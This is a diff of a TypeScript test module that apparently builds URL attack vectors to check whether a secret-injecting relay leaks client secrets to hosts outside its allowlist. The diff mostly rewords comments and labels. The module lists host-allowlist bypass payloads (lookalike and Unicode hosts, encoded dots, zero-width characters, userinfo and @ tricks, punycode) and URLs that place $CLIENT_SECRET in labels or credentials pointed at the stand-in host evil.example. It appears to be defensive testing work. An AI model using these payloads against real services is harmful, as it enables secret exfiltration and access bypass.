@@ -3,10 +3,10 @@ import { attempts, some, spread, type Attempt, type Vector } from '../vector.ts'
 
 const evil = 'evil.example'
 
-/** Rows 1, 3, 4 and 18: the url leads elsewhere, or seems to lead where it may. */
+/** Rows 1, 3, 4 and 18: the url leads to another host, or looks like an allowed one. */
 export function hosts(targets: readonly Target[]): Vector[] {
   return targets.flatMap((target, index) => {
-    // Where any host of a domain may stand, those that begin with nothing we know are let through by a careless check too.
+    // With a wildcard host, the vulnerable relay accepts every host.
     const bare = target.isWildcard || index === 0 ? elsewhere(target) : spread(elsewhere(target), 6, index)
     return [
       ...attempts(1, target, [...urls(target, bare), ...otherKeys(target, targets)]),
@@ -25,7 +25,7 @@ export function hosts(targets: readonly Target[]): Vector[] {
 type NamedUrl = [name: string, url: string]
 
 function urls(target: Target, list: NamedUrl[], details: Partial<Attempt> = {}): [string, Attempt][] {
-  return list.map(([name, url]) => [name, { request: target.honest({ url }), ...details }])
+  return list.map(([name, url]) => [name, { request: target.baseline({ url }), ...details }])
 }
 
 function elsewhere({ scheme, host, port, path }: Target): NamedUrl[] {
@@ -35,7 +35,7 @@ function elsewhere({ scheme, host, port, path }: Target): NamedUrl[] {
     ['the allowed url in the query', `${scheme}//${evil}${path}?url=${scheme}//${host}`],
     ['the allowed host as fragment', `${scheme}//${evil}${path}#${host}`],
     ['a backslash before the allowed host', `${scheme}//${evil}\\@${host}${path}`],
-    ['a host that ends alike', `${scheme}//evil${host}${port}${path}`],
+    ['a host with the same ending', `${scheme}//evil${host}${port}${path}`],
     ['a host with one letter more', `${scheme}//x${host}${port}${path}`],
     ['a host of circled letters', `${scheme}//ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ${path}`],
     [
@@ -61,21 +61,21 @@ function lookalikes({ scheme, host, port, path }: Target): NamedUrl[] {
     ['the allowed host as user name and password', behind(':443@')],
     ['the allowed host with a path in the user name', behind('%2f@')],
     ['two @', `${scheme}//${host}@${host}@${evil}${path}`],
-    ['a dot that is encoded', behind('%2e')],
-    ['a dot that is encoded in capitals', behind('%2E')],
+    ['an encoded dot', behind('%2e')],
+    ['an encoded dot in capitals', behind('%2E')],
     ['an ideographic dot', behind('。')],
     ['a full-width dot', behind('．')],
     ['a half-width dot', behind('｡')],
-    ['a tab behind the host', behind('\t.')],
-    ['a line break behind the host', behind('\n.')],
-    ['CR LF behind the host', behind('\r\n@')],
-    ['a soft hyphen behind the host', behind('\u00ad.')],
-    ['a zero-width space behind the host', behind('\u200b.')],
-    ['a zero-width joiner behind the host', behind('\u200d.')],
-    ['circled letters behind the host', `${scheme}//${host}.ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ${path}`],
-    ['full-width letters behind the host', `${scheme}//${host}.ｅｖｉｌ.example${path}`],
+    ['a tab after the host', behind('\t.')],
+    ['a line break after the host', behind('\n.')],
+    ['CR LF after the host', behind('\r\n@')],
+    ['a soft hyphen after the host', behind('\u00ad.')],
+    ['a zero-width space after the host', behind('\u200b.')],
+    ['a zero-width joiner after the host', behind('\u200d.')],
+    ['circled letters after the host', `${scheme}//${host}.ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ${path}`],
+    ['full-width letters after the host', `${scheme}//${host}.ｅｖｉｌ.example${path}`],
     ['a full-width @', `${scheme}//${host}.＠${evil}${path}`.replace('.＠', '.at.')],
-    ['a host in punycode behind the host', `${scheme}//${host}.xn--evl-7oa.example${path}`],
+    ['a host in punycode after the host', `${scheme}//${host}.xn--evl-7oa.example${path}`],
     ['a trailing dot', `${scheme}//${host}.${port}${path}`],
     ['a trailing ideographic dot', `${scheme}//${host}。${port}${path}`],
     ...[81, 8443, 444, 65535, 1].map((other): NamedUrl => [`port ${other}`, `${scheme}//${host}:${other}${path}`]),
@@ -91,16 +91,16 @@ function underWildcard({ scheme, host, port, path }: Target): NamedUrl[] {
     ['two labels for one', `${scheme}//a.b.${domain}${port}${path}`],
     ['no label', `${scheme}//${domain}${port}${path}`],
     ['an empty label', `${scheme}//.${domain}${port}${path}`],
-    ['the domain glued on', `${scheme}//evil${domain}${port}${path}`],
+    ['the domain without a dot', `${scheme}//evil${domain}${port}${path}`],
     ['the domain as a label', `${scheme}//${domain}.${evil}${path}`],
-    ['the domain behind a slash', `${scheme}//${evil}/.${domain}${path}`],
+    ['the domain after a slash', `${scheme}//${evil}/.${domain}${path}`],
     ['the domain as a fragment', `${scheme}//${evil}#.${domain}`],
-    ['a dot that is encoded in the label', `${scheme}//a%2eb.${domain}${path}`],
+    ['an encoded dot in the label', `${scheme}//a%2eb.${domain}${path}`],
     ['an ideographic dot in the label', `${scheme}//a。b.${domain}${path}`],
   ]
 }
 
-/** They look like the others and lead to the allowed host; they may be let through, but the secret must not end up in a wrong place. */
+/** Urls that look malicious but lead to the allowed host. The relay may accept them, but the secret must stay in its place. */
 function harmless({ scheme, host, port, path }: Target): NamedUrl[] {
   return [
     ['the host in capitals', `${scheme}//${host.toUpperCase()}${port}${path}`],
@@ -110,7 +110,7 @@ function harmless({ scheme, host, port, path }: Target): NamedUrl[] {
     ],
     ['a tab within the host', `${scheme}//${host.slice(0, 2)}\t${host.slice(2)}${port}${path}`],
     ['a fragment', `${scheme}//${host}${port}${path}#@${evil}`],
-    ['another host behind a backslash', `${scheme}//${host}${port}\\@${evil}`],
+    ['another host after a backslash', `${scheme}//${host}${port}\\@${evil}`],
     ['a port with zeros', `${scheme}//${host}${port.replace(':', ':0')}${path}`],
   ]
 }
@@ -120,7 +120,7 @@ function inAuthority(target: Target): [string, Attempt][] {
   const list: [string, string][] = [
     ['as a label', `${scheme}//$CLIENT_SECRET.${evil}${path}`],
     ['as a label of the allowed host', `${scheme}//$CLIENT_SECRET.${host}${path}`],
-    ['as a label behind the allowed host', `${scheme}//${host}.$CLIENT_SECRET.${evil}${path}`],
+    ['as a label after the allowed host', `${scheme}//${host}.$CLIENT_SECRET.${evil}${path}`],
     ['as user name', `${scheme}//$CLIENT_SECRET@${host}${path}`],
     ['as password', `${scheme}//user:$CLIENT_SECRET@${host}${path}`],
     ['as user name at another host', `${scheme}//${host}:$CLIENT_SECRET@${evil}${path}`],
@@ -134,9 +134,12 @@ function inAuthority(target: Target): [string, Attempt][] {
     ['in circled letters, as a label', `${scheme}//$ⒸLIENT_SECRET.${evil}${path}`],
   ]
   return [
-    ...list.map(([name, url]): [string, Attempt] => [name, { request: target.honest({ url }) }]),
-    // No host, port or scheme could hold a secret like ours, or a spelling that only another program reads as the placeholder.
-    ...meaningless.map(([name, url]): [string, Attempt] => [name, { request: target.honest({ url }), canLeak: false }]),
+    ...list.map(([name, url]): [string, Attempt] => [name, { request: target.baseline({ url }) }]),
+    // No host, port or scheme can hold such a secret, and only other programs read these spellings as the placeholder.
+    ...meaningless.map(([name, url]): [string, Attempt] => [
+      name,
+      { request: target.baseline({ url }), canLeak: false },
+    ]),
   ]
 }
 
@@ -150,13 +153,13 @@ function schemes({ scheme, host, port, path }: Target): NamedUrl[] {
   ]
 }
 
-/** One key's secret at a host of another key. */
+/** Sends one key's secret to a host of another key. */
 function otherKeys(target: Target, targets: readonly Target[]): [string, Attempt][] {
   const others = targets.filter(({ keyName, host }) => keyName !== target.keyName && host !== target.host)
   return others
     .slice(0, 2)
     .map((other) => [
       `at the host of ${other.keyName}`,
-      { request: other.honest({ clientSecretName: target.keyName } satisfies Partial<Wish>) },
+      { request: other.baseline({ clientSecretName: target.keyName } satisfies Partial<Wish>) },
     ])
 }
